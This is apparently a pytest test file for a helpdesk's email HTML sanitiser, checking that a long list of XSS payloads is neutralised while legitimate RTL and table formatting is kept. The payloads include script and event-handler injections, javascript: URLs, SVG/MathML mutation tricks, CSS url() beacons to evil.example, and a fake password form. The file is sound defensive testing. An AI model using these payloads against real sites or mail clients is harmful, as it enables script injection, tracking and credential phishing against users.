"""Sanitising of mail HTML: known XSS payloads do nothing, and what people really send is kept."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk.web.inbox.pages.original_message import GLASS, clean_html

DRAWING = "data:image/png;base64,iVBORw0KGgo="
STRINGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<script\x20type='text/javascript'>javascript:alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src='javascript:alert(1)'>",
    "<img src='jav&#x09;ascript:alert(1)'>",
    "<img src=`javascript:alert(1)`>",
    "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>",
    "<img srcset='https://evil.example/t 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    '<img src="cid:x" onload="alert(1)">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<body onload=alert(1)>",
    "<body background='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example' onclick=alert(1)>x</a>",
    "<a href='https://a.example' target=_top onmouseover=alert(1)>x</a>",
    "<a href='/inbox/tickets/1/resolve' ping='https://evil.example'>x</a>",
    "<area href='javascript:alert(1)'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<object type='text/x-scriptlet' data='https://evil.example'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code='x'></applet>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) poster='javascript:alert(1)'></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv='Content-Security-Policy' content=''>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/t)}</style>",
    "<p style='background:url(https://evil.example/t)'>x</p>",
    "<p style='background-color:url(https://evil.example/t)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='color:red;behavior:url(x.htc)'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/x.xml#a)'>x</p>",
    "<p style='border:1px solid;border:u\\72l(https://evil.example/t)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;z-index:9999'>over everything</p>",
    "<div style=\"font-family:'x';background:/**/url(//evil.example)\">x</div>",
    "<table background='https://evil.example/t'><td background='javascript:alert(1)'>x</td></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<bgsound src='javascript:alert(1)'>",
    "<layer src='https://evil.example'></layer>",
    "<x onclick=alert(1)>x</x>",
    "<custom-tag onpointerenter=alert(1)>x</custom-tag>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</title><script>alert(1)</script>",
    "<p id='subject' name='csrf' class='app' data-copy='1' hx-get='/account'>clobbers</p>",
    "<a href='https://a.example' hx-post='/inbox/tickets/1/resolve' hx-trigger='load'>x</a>",
    "<dialog open><p>looks like ours</p></dialog>",
    "<portal src='https://evil.example'></portal>",
    "\u202e<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<img src=x onerror\x0b=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
TAGS_THAT_ACT = {
    "script", "style", "iframe", "object", "embed", "applet", "form", "input", "button", "select", "textarea", "meta", "base",
    "link", "svg", "math", "video", "audio", "source", "template", "noscript", "frame", "frameset", "dialog", "portal", "html",
    "head", "body", "title", "xmp", "plaintext", "marquee", "isindex", "keygen", "bgsound", "layer", "x", "custom-tag",
}  # fmt: skip
ADDRESSES = ("http://", "https://", "mailto:", "tel:", "#")


class Judge(HTMLParser):
    """Parses sanitised HTML and records everything active."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.guilty: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in TAGS_THAT_ACT:
            self.guilty.append(tag)
        for name, value in attrs:
            normalised = (value or "").strip().lower()
            if name.startswith(("on", "hx-", "data-")) or name in (
                "id",
                "class",
                "name",
                "srcset",
                "background",
                "ping",
            ):
                self.guilty.append(f"{tag} {name}")
            if name == "href" and not normalised.startswith(ADDRESSES):
                self.guilty.append(f"{tag} href {normalised}")
            if name == "src" and not normalised.startswith(("data:image/png", "/pictures/")):
                self.guilty.append(f"{tag} src {normalised}")
            if name == "style" and any(
                one in normalised for one in ("url", "expression", "position", "behavior", "\\")
            ):
                self.guilty.append(f"{tag} style {normalised}")
            if name == "target" and normalised != "_blank":
                self.guilty.append(f"{tag} target {normalised}")

    handle_startendtag = handle_starttag


def guilty(html: str, outside=None) -> list[str]:
    judge = Judge()
    judge.feed(clean_html(html, {"x": DRAWING}, outside))
    judge.close()
    return judge.guilty


def ours(address: str) -> str:
    return "/pictures/x"


def test_the_payload_list_is_long():
    assert len(set(STRINGS)) >= 60


@pytest.mark.parametrize("html", STRINGS)
@pytest.mark.parametrize("outside", [None, ours], ids=["blocked", "asked for"])
def test_a_known_payload_does_nothing(html, outside):
    assert guilty(html, outside) == []
    assert guilty(f"<div dir=rtl>سلام {html} <b>ادامه</b></div>", outside) == []
    assert guilty(f"<table><tr><td>{html}", outside) == []


@given(st.lists(st.sampled_from(STRINGS), min_size=2, max_size=4), st.integers(0, 60))
def test_concatenated_and_truncated_payloads_do_nothing(strings, cut):
    joined = "".join(strings)
    assert guilty(joined[cut:], ours) == []
    assert guilty(joined[: len(joined) - cut], ours) == []


def test_sanitising_is_idempotent():
    for html in STRINGS:
        once = clean_html(html, {}, ours)
        assert guilty(once, ours) == [], html


def test_legitimate_formatting_is_kept():
    html = (
        '<div dir="rtl" lang="fa" style="text-align:right;font-size:14px">سلام <b>دنیا</b></div>'
        '<p dir="auto">mixed متن</p><ul><li>یک</li></ul><blockquote cite="https://a.example">q</blockquote>'
        '<table align="center" bgcolor="#eee" cellpadding="4"><tr><td colspan="2" valign="top">x</td></tr></table>'
        '<font face="Tahoma" color="red">f</font><a href="mailto:a@b.example">m</a><a href="tel:+98">t</a>'
        '<img src="cid:x" width="10" alt="drawing"><img src="cid:%78"><a href="https://a.example/?q=1&amp;b=2">l</a>'
    )
    cleaned = clean_html(html, {"x": DRAWING})
    for kept in (
        'dir="rtl"', 'lang="fa"', "text-align:right", "<b>دنیا</b>", 'dir="auto"', "<li>یک</li>", 'align="center"',
        'bgcolor="#eee"', 'colspan="2"', 'valign="top"', 'face="Tahoma"', 'href="mailto:a@b.example"', 'href="tel:+98"',
        'width="10"', 'alt="drawing"', 'href="https://a.example/?q=1&amp;b=2"', 'rel="noopener noreferrer"',
    ):  # fmt: skip
        assert kept in cleaned, kept
    assert cleaned.count(f'src="{DRAWING}"') == 2


def test_one_bad_css_declaration_removes_no_other():
    cleaned = clean_html('<p style="color:red;background:url(http://e.example/t);font-size:12px">x</p>', {})
    assert "color:red" in cleaned
    assert "font-size:12px" in cleaned
    assert "e.example" not in cleaned


def test_remote_pictures_are_blocked_until_requested():
    html = '<img src="https://e.example/t.png"><img src="//e.example/u.png"><img src="http://e.example/v.png">'
    assert "e.example" not in clean_html(html, {})
    assert clean_html(html, {}, ours).count('src="/pictures/x"') == 3


def test_the_frame_loads_nothing_by_itself():
    assert "default-src 'none'" in GLASS
    assert "sandbox" in GLASS
    assert "allow-scripts" not in GLASS
    assert "allow-same-origin" not in GLASS
